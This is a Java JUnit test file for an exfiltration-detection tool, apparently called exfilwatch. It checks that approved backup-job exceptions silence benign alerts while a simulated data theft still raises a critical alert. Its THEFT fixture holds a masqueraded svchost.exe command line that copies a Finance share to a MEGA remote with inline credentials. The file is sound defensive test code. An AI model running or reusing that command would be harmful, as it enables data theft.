package exfilwatch.job;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import exfilwatch.alert.AlertSchemas;
import exfilwatch.detection.ContentException;
import exfilwatch.detection.DetectionContent;
import exfilwatch.detection.Exemption;
import exfilwatch.detection.Judgement;
import exfilwatch.job.config.JobConfig;
import exfilwatch.telemetry.Connection;
import exfilwatch.telemetry.Direction;
import exfilwatch.telemetry.Event;
import exfilwatch.telemetry.EventJson;
import exfilwatch.telemetry.EventKind;
import exfilwatch.telemetry.Host;
import exfilwatch.telemetry.ProcessInfo;
import exfilwatch.telemetry.User;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Forty jobs of the usual kinds, and five exceptions for thirty of them. */
class ApprovedJobsTest {

  private static final long T0 = 1_767_225_600_000L;
  private static final Path RESOURCES = Path.of("src/test/resources/exfilwatch/job");
  private static final List<Path> RULES = List.of(Path.of("conf/rules"));
  private static final DetectionContent BARE = content(List.of());
  private static final DetectionContent TUNED = content(List.of(RESOURCES.resolve("approved.yml")));

  /** A real theft on a host with an approved backup. */
  private static final Job THEFT =
      new Job(
          "-",
          "FS01",
          "svc-backup",
          "C:\\PerfLogs\\svchost.exe",
          "svchost.exe copy \\\\FS01\\Finance :mega,user=x@example.com,pass=abc:f --include"
              + " *.xlsx");

  @TempDir private Path folder;

  /** A line of the table; {@code exception} is the title of the one that covers it, or -. */
  record Job(String exception, String host, String user, String program, String commandLine) {

    boolean covered() {
      return !exception.equals("-");
    }

    Event event(EventKind kind, int pid, @Nullable Connection connection) {
      boolean windows = program.indexOf('\\') >= 0;
      String name = program.substring(program.lastIndexOf(windows ? '\\' : '/') + 1);
      boolean start = kind == EventKind.PROCESS_START;
      ProcessInfo process =
          new ProcessInfo(
              "p" + pid,
              pid,
              0,
              name,
              program,
              start ? commandLine : null,
              null,
              null,
              null,
              null,
              null);
      long time = T0 + pid * 60_000L + (start ? 0 : connection == null ? 9_000 : 3_000);
      return new Event(
          kind,
          "endpoint",
          kind + "-" + pid,
          time,
          new Host(host, null, windows ? "windows" : "linux"),
          process,
          null,
          new User(user, null, null),
          connection,
          null);
    }
  }

  private static DetectionContent content(List<Path> exceptions) {
    try {
      return DetectionContent.load(RULES, exceptions);
    } catch (ContentException e) {
      throw new AssertionError(e.getMessage(), e);
    }
  }

  static List<Job> jobs() throws IOException {
    List<Job> jobs = new ArrayList<>();
    for (String line : Files.readAllLines(RESOURCES.resolve("benign-jobs.tsv"))) {
      if (!line.startsWith("#")) {
        String[] columns = line.split("\t", -1);
        jobs.add(new Job(columns[0], columns[1], columns[2], columns[3], columns[4]));
      }
    }
    return jobs;
  }

  @ParameterizedTest
  @MethodSource("jobs")
  void onlyWhatNoExceptionCoversIsSuspicious(Job job) {
    Event start = job.event(EventKind.PROCESS_START, 1, null);
    assertThat(BARE.compile().judge(start).suspicion()).isNotNull();
    Judgement judgement = TUNED.compile().judge(start);
    assertThat(judgement.suspicion() == null).isEqualTo(job.covered());
    assertThat(judgement.exempted())
        .extracting(Exemption::title)
        .isEqualTo(job.covered() ? List.of(job.exception()) : List.of());
  }

  @Test
  void alertsFallToWhatIsNotCoveredAndARealIncidentStays() throws Exception {
    List<Job> jobs = jobs();
    assertThat(jobs).hasSize(40);
    List<Job> all = new ArrayList<>(jobs);
    all.add(THEFT);
    List<String> lines = new ArrayList<>();
    for (Job job : all) {
      int pid = lines.size() + 100;
      lines.add(EventJson.toJson(job.event(EventKind.PROCESS_START, pid, null)));
      lines.add(EventJson.toJson(job.event(EventKind.CONNECTION, pid, connection())));
      lines.add(EventJson.toJson(job.event(EventKind.PROCESS_END, pid, null)));
    }
    Path input = Files.write(folder.resolve("in.ndjson"), lines, UTF_8);

    Path out = folder.resolve("out.ndjson");
    HuntSummary summary =
        new Hunt(TUNED, GraphSettings.bounded(JobConfig.load(Path.of("conf/exfilwatch.yaml"))))
            .run(
                List.of(input.toString()),
                "auto",
                InputStream.nullInputStream(),
                out.toString(),
                null);

    List<String> expected =
        all.stream().filter(job -> !job.covered()).map(Job::program).sorted().toList();
    List<JsonNode> correlated = correlated(out);
    assertThat(correlated)
        .extracting(alert -> alert.at("/process/executable").asText())
        .containsExactlyInAnyOrderElementsOf(expected);
    JsonNode theft =
        correlated.stream()
            .filter(alert -> alert.at("/process/name").asText().equals("svchost.exe"))
            .findFirst()
            .orElseThrow();
    assertThat(theft.at("/host/name").asText()).isEqualTo("FS01");
    assertThat(theft.at("/exfil/risk/severity").asText()).isEqualTo("critical");

    Map<String, Long> silenced = new TreeMap<>();
    jobs.stream()
        .filter(Job::covered)
        .forEach(job -> silenced.merge(job.exception(), 1L, Long::sum));
    assertThat(summary.excepted()).isEqualTo(silenced).hasSize(5);
    StringWriter text = new StringWriter();
    summary.print(new PrintWriter(text, true));
    assertThat(text.toString())
        .contains("excepted     10 starts by Backup of the file servers to Wasabi");
  }

  /** What was running before the product has no start, so only who it is and where it goes tell. */
  @Test
  void whatWasRunningBeforeCanBeApprovedTooAndIsCounted() throws Exception {
    String exception =
        """
        title: %s
        expiry: 2099-12-31
        owner: it@example.com
        logsource:
          category: %s
        filter:
          rules: any
          approved:
            host.name: %s
            %s
          condition: not approved
        """;
    Files.writeString(
        folder.resolve("running.yml"),
        exception.formatted("By user", "process_creation", "FS01", "user.name: svc-backup")
            + "---\n"
            + exception.formatted(
                "By destination", "network_connection", "FS02", "destination.ip: 203.0.113.5"));
    List<String> lines = new ArrayList<>();
    for (String host : List.of("FS01", "FS02", "FS03")) {
      Job job = new Job("-", host, "svc-backup", "C:\\Tools\\rclone.exe", "");
      for (int pid = 100; pid < 102; pid++) {
        lines.add(EventJson.toJson(job.event(EventKind.CONNECTION, pid, connection())));
      }
    }
    Path input = Files.write(folder.resolve("in.ndjson"), lines, UTF_8);
    Path out = folder.resolve("out.ndjson");
    HuntSummary summary =
        new Hunt(
                content(List.of(folder.resolve("running.yml"))),
                GraphSettings.bounded(JobConfig.load(Path.of("conf/exfilwatch.yaml"))))
            .run(
                List.of(input.toString()),
                "auto",
                InputStream.nullInputStream(),
                out.toString(),
                null);
    assertThat(correlated(out))
        .extracting(alert -> alert.at("/host/name").asText())
        .isNotEmpty()
        .containsOnly("FS03");
    assertThat(summary.exceptedActivity()).isEqualTo(Map.of("By user", 2L, "By destination", 2L));
    assertThat(summary.excepted().values()).containsOnly(0L);
    StringWriter text = new StringWriter();
    summary.print(new PrintWriter(text, true));
    assertThat(text.toString())
        .contains("excepted     2 connections or queries, start not seen, by By destination");
  }

  private static Connection connection() {
    return new Connection(
        Direction.OUTBOUND, "tcp", "192.0.2.7", 50_000, "203.0.113.5", 443, null, -1, -1, false);
  }

  private static List<JsonNode> correlated(Path file) throws IOException {
    ObjectMapper json = new ObjectMapper();
    List<JsonNode> alerts = new ArrayList<>();
    for (String line : Files.readAllLines(file)) {
      JsonNode alert = AlertSchemas.requireValid(json.readTree(line));
      if (alert.at("/exfil/stage").asText().equals("correlated")) {
        alerts.add(alert);
      }
    }
    return alerts;
  }
}
